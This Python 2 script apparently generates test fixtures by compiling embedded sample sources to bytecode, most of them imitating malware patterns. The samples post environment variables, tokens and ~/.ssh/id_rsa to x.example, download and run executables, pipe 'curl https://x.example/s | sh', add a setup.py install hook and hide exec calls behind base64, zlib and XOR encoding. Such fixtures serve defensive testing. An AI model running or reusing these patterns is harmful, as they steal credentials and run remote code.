"""Prints inert sources of Python 2 and what the running CPython 2 compiles them to, as one line of JSON; run by
write-samples.ts."""

import base64
import imp
import json
import marshal
import sys
import zlib

HIDDEN = base64.b64encode(zlib.compress("import os;print os.name"))

SAMPLES = {
    "imports": """
import os, sys
import os.path as p
import urllib2
from base64 import b64decode as d, b64encode
from . import sibling
from ..up import other as o
from subprocess import *
try:
    import json
except ImportError:
    json = None
def late():
    import socket as s
    from ssl import wrap_socket
    return s.gethostname(), __import__('platform').node()
""",
    "decode": """
import zlib as z, base64
def d(s):
    return z.decompress(base64.b64decode(s))
exec(d("HIDDEN"))
exec d("HIDDEN") in globals()
exec compile(d("HIDDEN"), "<s>", "exec")
exec "HIDDEN".decode("base64").decode("zlib")
eval('exe' + 'c')
""",
    "words": r"""
import sys, os
print 'a', os.environ['HOME'],
print >>sys.stderr, `sys.argv`, u'\xe4\u20ac'
print
x = 0777 + 10L
if x <> 3:
    os.system('id %s' % x)
text = 'abcdef'
exec text[1:] + text[:2] + text[1:3] + text[:]
data = [1, 2, 3]
data[1:] = [4]
data[:1] = [5]
del data[:]
data[0] += 2
data[0:1] += [3]
y = x / 2
y /= 3
def pair(a, b, c=True, *rest, **named):
    global x
    x = None
    return a(b, c, k=1, *rest, **named)
pair(os.system, 'ls', False, *data)
""",
    "environment": """
import os, requests, urllib2
session = requests.Session()
def send(what, to='https://x.example/in'):
    session.headers.update({'X-A': 'b'})
    return session.post(to, json=what, timeout=3)
send(dict(os.environ))
token = os.getenv('API_TOKEN') or os.environ['SECRET_KEY']
if token and len(token) > 3:
    urllib2.urlopen('https://x.example/?t=%s' % token).read()
""",
    "install": """
from setuptools import setup
from setuptools.command.install import install
class Post(install):
    user = 3
    def run(self):
        install.run(self)
        self.user += 1
        __import__('os').system('id > /dev/null')
class Old:
    pass
setup(name='x', version='1.0', cmdclass={'install': Post}, **{'zip_safe': False})
""",
    "download": """
import os, subprocess, tempfile, urllib
def fetch(url='https://x.example/x.exe'):
    path = os.path.join(tempfile.gettempdir(), 'x.exe')
    try:
        urllib.urlretrieve(url, path)
    except (OSError, ValueError), error:
        print 'no', error
        return None
    except KeyError:
        raise RuntimeError, 'x'
    else:
        os.chmod(path, 0755)
    finally:
        print 'done'
    return path
found = fetch()
if found:
    subprocess.Popen([found, '--quiet'], shell=False)
else:
    os.system('curl https://x.example/s | sh')
""",
    "files": """
import os, requests, sqlite3
home = os.path.expanduser('~')
with open(os.path.join(home, '.ssh', 'id_rsa'), 'rb') as key, open('/tmp/out', 'w') as out:
    requests.post('https://x.example', data=key.read()[:-1])
    out.write('import os; os.system("id")')
for root, dirs, names in os.walk(home):
    for name in names:
        if not name.endswith('.txt') or name in {'a.txt', 'b.txt'}:
            continue
        if name == 'stop':
            break
        requests.post('https://x.example', files={'f': open(os.path.join(root, name))})
""",
    "dispatch": """
state = 3
out = ''
while True:
    if state == 3:
        out += 'a='
        state = 9
    elif state == 9:
        out += '1'
        break
exec out
n = 0
text = ''
while n < 5 and len(text) < 100:
    n += 1
    if n == 2:
        continue
    text += str(n)
exec('x' + text)
codes = [105, 108, 114, 108, 118, 113, 38, 111, 114, 57]
exec ''.join(chr(c ^ (i % 7)) for i, c in enumerate(codes))
exec ''.join([chr(c ^ (i % 7)) for i, c in enumerate(codes) if c is not None])
exec '\\n'.join(map(lambda c: chr(c), codes))
""",
    "choices": """
import os, sys
a = os.name == 'nt' and 'C:/x' or '/tmp/x'
b = 'cmd' if sys.platform.startswith('win') else 'sh'
if 1 < len(sys.argv) <= 3 and (a or b):
    os.system(b + ' -c id')
elif not a:
    os.system('whoami')
else:
    os.system('uname -a')
c = {'k': a, 'm': b, 'n': [1, (2, 3)], 'o': {1, 2}}
os.execv(c['k'], ['x', 'y'])
assert c, 'no'
del c['k'], a
""",
    "objects": """
import os, socket, threading, functools
def twice(f):
    @functools.wraps(f)
    def inner(*args, **kwargs):
        return f(*args, **kwargs)
    return inner
class Box(object):
    items = []
    def __init__(self, host, port=4444):
        self.host, self.port = host, port
        self.items[0:2] = [1, 2]
    @property
    def name(self):
        return self.host
    @classmethod
    def make(cls, *args):
        return cls(*args)
    @twice
    def open(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((self.host, self.port))
        s.send(str(os.environ))
        return s
Box.make('x.example').open()
threading.Thread(target=os.system, args=('ls -la',)).start()
def pieces():
    for part in 'a', '=', '1':
        yield part
exec(''.join(pieces()))
""",
}

found, sources = {}, {}
for name, source in SAMPLES.items():
    sources[name] = source.lstrip("\n").replace("HIDDEN", HIDDEN)
    code = compile(sources[name], name + ".py", "exec", 0, True)
    data = imp.get_magic() + bytes(bytearray(4)) + marshal.dumps(code)
    found[name] = base64.b64encode(zlib.compress(data, 9))
print(json.dumps({"version": "%d.%d" % sys.version_info[:2], "compiled": found, "sources": sources}, sort_keys=True))
